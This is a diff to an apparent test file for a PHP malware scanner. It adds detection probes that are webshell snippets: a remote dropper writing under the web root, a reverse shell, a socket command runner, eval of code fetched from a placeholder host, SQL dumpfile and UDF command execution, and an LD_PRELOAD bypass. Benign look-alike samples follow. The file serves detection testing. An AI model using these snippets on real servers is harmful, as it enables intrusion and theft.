@@ -103,11 +103,34 @@ var probes = []struct{ name, rule, src string }{
 		$to = base64_decode('ZHJvcEBleGFtcGxlLmludmFsaWQ='); mail($to, "new card", $m);`},
 	{"assembled drop", "php.mail-drop", `<?php $c = array('d', 'r', 'o', 'p', '@', 'x', '.', 'i', 'n'); $to = $c[0].$c[1].$c[2].$c[3].$c[4].$c[5].$c[6].$c[7].$c[8];
 		mail($to, "login", $data);`},
+	{"remote dropper under the web root", "php.remote-dropper", `<?php function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); } $p = $_SERVER['DOCUMENT_ROOT'] . "/x.php"; $t = get('https://paste.invalid/raw/a'); $f = fopen($p, 'w'); fwrite($f, $t); fclose($f);`},
+	{"reverse shell", "php.exec-input", `<?php $s = fsockopen($ip, 443); while ($c = fread($s, 1024)) { $p = proc_open($c, $d, $pipes); }`},
+	{"socket command", "php.exec-input", `<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($s, $h, 4444); $c = socket_read($s, 2048); system($c);`},
+	{"sql dumpfile", "php.sql-file-write", `<?php $c = 'cmd /c ' . $_POST['cmd']; $p = "ScriptText = \"$c\""; mysql_query("select '$p' into dumpfile 'c:/windows/system32/wbem/mof/x.mof';");`},
+	{"sql udf", "php.sql-udf", `<?php mysql_query("Create Function cmdshell returns string soname '$dll'", $link);`},
+	{"sql client", "php.sql-client", `<?php $c = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']); mysql_select_db($_POST['db'], $c); $r = mysql_query($_POST['sql'], $c); while ($row = mysql_fetch_row($r)) { echo implode("\t", $row); }`},
+	{"xslt php function", "php.xslt-exec", `<?php $xsl = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:q="http://php.net/xsl"><xsl:template match="/r"><xsl:value-of select="q:function(\'system\',string(.))"/></xsl:template></xsl:stylesheet>'; $p = new XSLTProcessor(); $p->registerPHPFunctions(); $p->importStyleSheet(DOMDocument::loadXML($xsl)); echo $p->transformToXML(DOMDocument::loadXML('<r>' . $_GET['c'] . '</r>'));`},
+	{"yaml callback", "php.exec-input", `<?php $t = $_POST['t']; yaml_parse("a: !x \"|.+|e\"", 0, $n, array("!" . $t => 'preg_replace'));`},
+	{"doc comment payload", "php.exec-input", "<?php\n/**\n * system\n */\nclass K {}\n$r = new ReflectionClass('K');\n$d = $r->getDocComment();\n$f = substr($d, strpos($d, 'sys'), 6);\n$f($_POST['c']);"},
+	{"by-reference assembly", "php.exec-input", `<?php function add(&$s, $c) { $s = $s . $c; } $f = 'sys'; add($f, 'tem'); $f($_GET['c']);`},
+	{"register_globals set in a branch", "php.exec-input", "<form method=post><input type=text name=command></form>\n<?php if (isset($reset)) { $command = ''; } if ($command) { system($command); } ?>"},
+	{"remote code with a computed query", "php.exec-input", `<?php $c = file_get_contents(sprintf('%s?%s', 'http://x.invalid/p.txt', uniqid())); eval($c);`},
+	{"array_udiff_assoc callback", "php.exec-input", `<?php array_udiff_assoc(array($_REQUEST['p']), array(1), "assert");`},
+	{"ld_preload environment", "php.bypass", `<?php $env = array('LD_PRELOAD' => '/tmp/x.so'); proc_open('id', array(), $p, '/tmp', $env);`},
+	{"superglobal by computed name", "php.dynamic-call-input", `<?php ${'_' . $k}['a'](${'_' . $k}['b']);`},
+	{"zlib wrapper read", "php.wrapper-read", `<?php $f = $_GET['file']; copy("compress.zlib://" . $f, $tmp);`},
 }
 
 // benign are legitimate code that uses the same functions: none may be
 // reported.
 var benign = []struct{ name, src string }{
+	{"payment notification over a socket", `<?php $req = 'cmd=_notify-validate'; foreach ($_POST as $k => $v) { $req .= "&$k=" . urlencode($v); } $fp = fsockopen('ssl://ipn.invalid', 443); fputs($fp, $req); while (!feof($fp)) { $res = fgets($fp, 1024); if (strcmp($res, "VERIFIED") == 0) { echo "ok"; } }`},
+	{"installer database check", `<?php $c = mysqli_connect($_POST['dbhost'], $_POST['dbuser'], $_POST['dbpass']); mysqli_query($c, "CREATE DATABASE IF NOT EXISTS " . $_POST['dbname']); mysqli_query($c, "SELECT VERSION()");`},
+	{"reference cleanup", `<?php function clean(&$s) { $s = trim($s); } $q = $_GET['q']; clean($q); echo htmlspecialchars($q);`},
+	{"yaml with plain callbacks", `<?php $d = yaml_parse($_POST['doc'], 0, $n, array('!date' => 'strtotime'));`},
+	{"plugin listing", `<?php $r = mysql_query("SHOW PLUGINS SONAME LIKE '%password%'");`},
+	{"cache file", `<?php $data = file_get_contents('https://api.invalid/feed.json'); file_put_contents(__DIR__ . '/cache/feed.json', $data);`},
+	{"gz import of an upload", `<?php $fp = fopen("compress.zlib://" . $_FILES['dump']['tmp_name'], 'r');`},
 	{"fixed command", `<?php echo shell_exec('uptime');`},
 	{"escaped argument", `<?php system('ping -c 1 ' . escapeshellarg($_GET['host']));`},
 	{"numeric argument", `<?php exec('kill ' . intval($_POST['pid']));`},
